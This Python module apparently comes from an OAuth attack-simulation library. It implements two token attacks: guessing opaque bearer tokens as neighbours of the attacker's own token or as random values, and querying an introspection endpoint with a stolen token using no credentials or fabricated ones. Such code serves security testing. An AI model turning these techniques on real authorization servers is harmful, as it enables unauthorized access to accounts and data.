"""Token scanning: references guessed at the API, and introspection without the right to it (RFC 7662 section 2.1)."""

from base64 import b64encode
from typing import ClassVar

from simlib.attacks.base import Candidate, NotApplicable, Preparation, TokenAttack, send
from simlib.attacks.oauth_requests import make_form_request
from simlib.scenario.effects import Answer, Context, Flow
from simlib.scenario.messages import HttpRequest
from simlib.tokens import read_header
from simlib.tokens.forging import decode, encode

NEIGHBOURS = (-1, 1, -2, 2)
RANDOM = 8
"""More are no use: with 256 random bits no feasible number of guesses succeeds (RFC 6749 section 10.10)."""


class GuessedReference(TokenAttack):
    """Guesses of opaque tokens, beginning with the neighbours of the attacker's own.

    References that are counted instead of random are found by the first neighbour.
    """

    name: ClassVar[str] = "guessed_reference"
    summary: ClassVar[str] = "texts like the own reference: its neighbours, then random ones"
    source: ClassVar[str] = "RFC 6749 section 10.10, RFC 6819 section 5.1.4.2.2"

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Compute the neighbours, and draw random references."""
        yield from ()
        token = self.assets.own_token
        if read_header(token) or token.startswith("v4."):
            return NotApplicable("the token is no reference: a guess would have to hit a signature")
        head, dot, last = token.rpartition(".")
        own, number = decode(last), int.from_bytes(decode(last), "big")
        neighbours = [(number + step) % 256 ** len(own) for step in NEIGHBOURS]
        guesses = [value.to_bytes(len(own), "big") for value in neighbours]
        guesses += [ctx.random_bytes("guess", len(own)) for _ in range(RANDOM)]
        labels = [f"own {step:+d}" for step in NEIGHBOURS] + [f"guess {n + 1}" for n in range(RANDOM)]
        return tuple(
            Candidate(label, f"{head}{dot}{encode(guess)}") for label, guess in zip(labels, guesses, strict=True)
        )

    def attempt(self, ctx: Context, candidate: Candidate) -> Flow[Answer]:
        """Send it as a bearer token, without a proof of possession."""
        return send("api", HttpRequest(f"Bearer {candidate.value}"))


class OpenIntrospection(TokenAttack):
    """Introspection by a caller that is no resource server.

    An open endpoint reveals the claims of tokens, and whether a guessed token is valid.
    """

    name: ClassVar[str] = "open_introspection"
    summary: ClassVar[str] = "introspection of a stolen token, without credentials or with made-up ones"
    source: ClassVar[str] = "RFC 7662 sections 2.1 and 4; CVE-2026-37979"
    needs: ClassVar[tuple[str, ...]] = ("stolen_request",)

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Choose the credentials."""
        yield from ()
        made_up = "Basic " + b64encode(b"resource-server:secret").decode()
        return (Candidate("without credentials", ""), Candidate("with made-up credentials", made_up))

    def attempt(self, ctx: Context, candidate: Candidate) -> Flow[Answer]:
        """Introspect the stolen token."""
        return send("introspect", make_form_request(candidate.value, token=self.assets.stolen_token))
